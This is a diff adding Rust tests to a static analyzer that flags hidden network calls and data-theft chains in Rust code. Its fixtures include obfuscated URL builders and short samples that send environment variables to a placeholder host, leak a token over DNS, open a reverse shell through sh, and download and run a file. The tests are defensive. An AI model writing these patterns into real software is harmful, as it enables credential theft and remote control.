@@ -161,3 +161,99 @@ fn command_lines_inside_programs_are_read_as_shells_read_them() {
         ["preinstall: network.http > process.shell"]
     );
 }
+
+/// The texts and chains that show what a program of Rust hides.
+fn rust_tells(text: &str) -> (Vec<String>, Vec<String>) {
+    let facts = facts("src/lib.rs", text);
+    let literals = facts.literals.iter().map(|l| l.value.to_string()).collect();
+    (literals, chains(&facts))
+}
+
+#[test]
+fn rust_constants_are_worked_out() {
+    let cases = [
+        (
+            "const T: &[&[u8]] = &[&[0x32, 0x2e, 0x2e, 0x2a, 0x60, 0x75, 0x75, 0x22, 0x74, 0x2e, 0x29, 0x2e]];\n\
+             fn s(n: usize) -> String { T[n].iter().map(|b| (b ^ 0x5a) as char).collect() }\nfn f() { ureq::get(&s(0)).call(); }",
+            "http://x.tst",
+        ),
+        (
+            "fn dec(b: &[u8]) -> String { let mut out = String::new(); for (i, c) in b.iter().enumerate() { out.push((c ^ (i as u8).wrapping_add(1)) as char); } out }\n\
+             fn f() { ureq::get(dec(b\"ivwt?)(p'~xx\").as_str()); }",
+            "http://x.tst",
+        ),
+        (
+            "const P: [u32; 3] = [0x68747470, 0x3a2f2f78, 0x2e747374];\nfn p() -> String { P.iter().flat_map(|w| w.to_be_bytes()).map(char::from).collect() }\nfn f() { ureq::get(&p()); }",
+            "http://x.tst",
+        ),
+        (
+            "fn f() { let u = [\"ht\", \"tp:/\", \"/x.\", \"tst\"].concat(); ureq::get(&u).call(); }",
+            "http://x.tst",
+        ),
+        (
+            "use base64::{Engine as _, engine::general_purpose::STANDARD as B};\nfn t(s: &str) -> String { String::from_utf8(B.decode(s).unwrap()).unwrap() }\nfn f() { minreq::get(t(\"aHR0cDovL3gudHN0\")).send(); }",
+            "http://x.tst",
+        ),
+        (
+            "fn f() { let u: String = \"tst.x//:ptth\".chars().rev().collect(); ureq::get(&u).call(); }",
+            "http://x.tst",
+        ),
+    ];
+    let mut wrong = Vec::new();
+    for (text, hidden) in cases {
+        let (literals, chains) = rust_tells(text);
+        if !literals.iter().any(|l| l == hidden) {
+            wrong.push(format!("{text}\n   {literals:?} {chains:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn rust_values_are_followed_through_functions_and_formats() {
+    let cases: &[(&str, &[&str])] = &[
+        (
+            "use std::{io::Write, net::TcpStream};\nfn f() { let all: Vec<String> = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect(); let body = all.join(\"\\n\");\n\
+             if let Ok(mut s) = TcpStream::connect((\"x.example.invalid\", 80)) { let _ = write!(s, \"POST / HTTP/1.1\\r\\n\\r\\n{body}\"); } }",
+            &["environment.read-all > network.socket"],
+        ),
+        (
+            "fn send(b: &str) { ureq::post(\"http://x.example.invalid\").send_string(b); }\nfn f() { let e = format!(\"{:?}\", std::env::vars().collect::<Vec<_>>()); send(&e); }",
+            &["environment.read-all > network.http"],
+        ),
+        (
+            "fn f() { send(&all()); }\nfn all() -> String { let v: Vec<_> = std::env::vars().collect(); serde_json::to_string(&v).unwrap() }\nfn send(b: &str) { let _ = attohttpc::post(\"http://x.example.invalid\").text(b).send(); }",
+            &["environment.read-all > encode.object > network.http"],
+        ),
+        (
+            "use std::net::ToSocketAddrs;\nfn f() { for n in [\"A_TOKEN\"].iter() { if let Ok(v) = std::env::var(n) { let h: String = v.bytes().map(|b| format!(\"{:02x}\", b)).collect(); let _ = format!(\"{h}.x.example.invalid:80\").to_socket_addrs(); } } }",
+            &["environment.read > encode.text > network.dns"],
+        ),
+        (
+            "use std::os::fd::{AsRawFd, FromRawFd}; use std::process::{Command, Stdio};\nfn f() { let s = std::net::TcpStream::connect(\"x.example.invalid:1\").unwrap(); let fd = s.as_raw_fd();\n\
+             let io = || unsafe { Stdio::from_raw_fd(fd) }; let _ = Command::new(\"sh\").stdin(io()).stdout(io()).spawn(); }",
+            &["network.socket > process.redirect"],
+        ),
+        (
+            "use std::process::Command;\nfn main() { let p = std::env::temp_dir().join(\"x\"); let u = concat!(\"https://x.example\", \".invalid/a\");\n\
+             let ok = Command::new(\"curl\").args([\"-fsSL\", \"-o\", p.to_str().unwrap(), u]).status().is_ok(); if ok { Command::new(&p).arg(\"--now\").spawn().ok(); } }",
+            &["network.download > process.spawn [file]"],
+        ),
+        (
+            "use std::process::Command;\nfn main() { let p = \"a.tgz\"; Command::new(\"curl\").args([\"-o\", p, \"https://x.example.invalid/a.tgz\"]).status().ok(); Command::new(\"tar\").args([\"xf\", p]).status().ok(); }",
+            &[],
+        ),
+        (
+            "fn f(name: &str) { let addr = format!(\"{name}:80\"); std::net::TcpStream::connect(addr).unwrap(); let home = std::env::var(\"HOME\"); }",
+            &[],
+        ),
+    ];
+    let mut wrong = Vec::new();
+    for (text, expected) in cases {
+        let found = rust_tells(text).1;
+        if found != *expected {
+            wrong.push(format!("{text}\n   is {found:?}\n  not {expected:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
